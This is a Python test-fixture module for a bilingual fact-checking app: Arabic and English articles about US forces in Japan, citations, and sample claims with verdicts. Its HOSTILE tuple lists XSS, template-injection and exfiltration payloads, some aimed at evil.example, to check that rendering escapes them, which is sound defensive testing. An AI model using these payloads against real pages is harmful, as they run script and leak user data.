"""What is told on the page in tests: three articles, one of them hostile, and sentences on them."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from rag.messages.reasons import reason
from rag.records import Article, Citation, Evidence, Language, Scope, Sentence, Status, Verdict
from tests.factories import article, passage

HOSTILE = (
    '<script>window.pwned="script"</script>',
    '<img src=x onerror="window.pwned=1">',
    "![secret](http://evil.example/?q=secret)",
    "[click me](javascript:window.pwned=2)",
    "[click me](http://evil.example/)",
    "<http://evil.example/>",
    "http://evil.example/plain www.evil.example",
    "![ref][r]\n\n[r]: http://evil.example/x.png",
    '<a href="javascript:window.pwned=3">x</a>',
    '<iframe src="http://evil.example/"></iframe>',
    '<svg onload="window.pwned=4"><image href="http://evil.example/i.png"/></svg>',
    '<style>@import "http://evil.example/s.css"; body{display:none}</style>',
    '<div style="position:fixed;inset:0;background:url(http://evil.example/b.png)">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name="password"></form>',
    '<video src="http://evil.example/v.mp4" autoplay></video>',
    "${Object.assign(window,{pwned:5})} `${window.pwned=6}`",
    "{{constructor.constructor('window.pwned=7')()}} {{{value}}}",
    '"><script>window.pwned=8</script>',
    "' onmouseover='window.pwned=9",
    "&lt;script&gt;window.pwned=10&lt;/script&gt;",
    "```html\n<script>window.pwned=11</script>\n```",
    "```mermaid\ngraph TD; A-->B\n```",
    '<details open ontoggle="window.pwned=12">x</details>',
    "<math><mtext><img src=x onerror=window.pwned=13></mtext></math>",
    "$$\\href{javascript:window.pwned=14}{x}$$ \\(x\\)",
    "<!-- --!><img src=x onerror=window.pwned=15> -->",
    "\ue0000\ue001 \ue0005\ue001",
    "abc \u202e\u2066gnp.exe\u2069\u202c \u200f!",
    "\x00\x1b[31m\ud800 broken",
    '<a class="cite" href="#cite-en-0-9-00000000-eA" id="chat">1</a>',
)
"""Texts that want to be more than text."""

TALKS_AR = article(
    "أعلنت الولايات المتحدة مقرا جديدا لقواتها في اليابان.\n\n"
    "وتستضيف اليابان نحو 54 ألف جندي أمريكي، بحسب وكالة Reuters. 😀 وبلغت الكلفة $4.5bn.\n\n"
    + "وتتابع العواصم الثلاث تبادل بيانات الإنذار المبكر في الوقت الحقيقي. " * 30
    + "\n\nوعُقد الاجتماع في 28 يوليو 2024.",
    id="talks/ar 1",
    language="ar",
    title="مقر جديد للقوات الأمريكية في اليابان",
    published_at=date(2024, 7, 28),
    outlet="وكالة المدار",
)
TALKS_EN = article(
    "The United States announced a new headquarters for its forces in Japan.\n\n"
    "About 54,000 American troops are based there, the ministry said.",
    id="talks-en",
    title="A new headquarters for US forces in Japan",
    published_at=date(2024, 7, 28),
    outlet="Harbor Dispatch",
)
HOSTILE_ARTICLE = article(
    "\n\n".join(HOSTILE),
    id='"><script>',
    title=HOSTILE[0] + HOSTILE[1],
    outlet=HOSTILE[2] + HOSTILE[12],
)
ARTICLES = (TALKS_AR, TALKS_EN, HOSTILE_ARTICLE)

TROOPS_AR = "وتستضيف اليابان نحو 54 ألف جندي أمريكي، بحسب وكالة Reuters."
DATE_AR = "وعُقد الاجتماع في 28 يوليو 2024."
TROOPS_EN = "About 54,000 American troops are based there, the ministry said."


def cite(source: Article, quote: str, number: int = 1) -> Citation:
    """The citation of `quote`, which stands in the article."""
    start = source.text.index(quote)
    found = replace(passage(source.text), article=source)
    return Citation(Evidence(number, found), start, start + len(quote))


REASONS: dict[Language, dict[Status, str]] = {
    "en": {
        "check": "The cited sentence has a negation that this one has not.",
        "unverified": "The source is in Arabic, and too little of it can be compared.",
        "unsupported": "Little of this stands in the cited passage.",
        "contradicted": "$5.5bn is not in the cited sentence «بلغت الكلفة»; it says $4.5bn.",
    },
    "ar": {
        "check": "في الجملة المستشهد بها نفي لا يوجد هنا.",
        "unverified": "المصدر بالإنجليزية، وما يمكن مقارنته منه قليل.",
        "unsupported": "قليل من هذا يرد في المقطع المستشهد به.",
        "contradicted": "لا يرد $5.5bn في الجملة المستشهد بها؛ بل فيها $4.5bn بحسب Reuters.",
    },
}
"""One for each verdict but `supported`."""

_CLAIMS: dict[Language, dict[Status, str]] = {
    "en": {
        "supported": "About 54,000 troops are based there.",
        "check": "They will stay where they are.",
        "unverified": "The agency was the first to report it.",
        "unsupported": "The emperor welcomed the plan.",
        "contradicted": "The bases cost $5.5bn.",
    },
    "ar": {
        "supported": "تستضيف اليابان نحو 54 ألف جندي.",
        "check": "وستبقى القوات في مواقعها.",
        "unverified": "وكانت الوكالة أول من نقل ذلك.",
        "unsupported": "ورحّب الإمبراطور بالخطة.",
        "contradicted": "وبلغت كلفة القواعد $5.5bn.",
    },
}

SEARCHED = Scope(24, date(2023, 5, 3), date(2024, 2, 12))


def unequal(language: Language) -> list[Sentence]:
    """Two sentences with two sources each: one of which does nothing, one that the check added."""
    own, other = cite(TALKS_AR, TROOPS_AR), cite(TALKS_EN, TROOPS_EN, 2)
    text, told = _CLAIMS[language], REASONS[language]
    amiss = replace(other, verdict=Verdict("contradicted", (told["contradicted"],)))
    wrong = replace(own, verdict=Verdict("unsupported", (told["unsupported"],)))
    sound = Verdict("supported", score=1.0)
    added = replace(other, verdict=sound, added=True)
    named = reason("borne_out_by", language, numbers="[2]")
    return [
        Sentence(text["supported"], (replace(own, verdict=sound), amiss), verdict=sound),
        Sentence(text["check"], (wrong, added), verdict=Verdict("check", (named,))),
    ]


def judged(language: Language) -> list[Sentence]:
    """A sentence for each verdict, in the order of `REASONS`, the supported one first."""
    source, quote = (TALKS_AR, TROOPS_AR) if language == "ar" else (TALKS_EN, TROOPS_EN)
    return [
        Sentence(
            text,
            (cite(source, quote),),
            verdict=Verdict(status, tuple(r for s, r in REASONS[language].items() if s == status)),
        )
        for status, text in _CLAIMS[language].items()
    ]
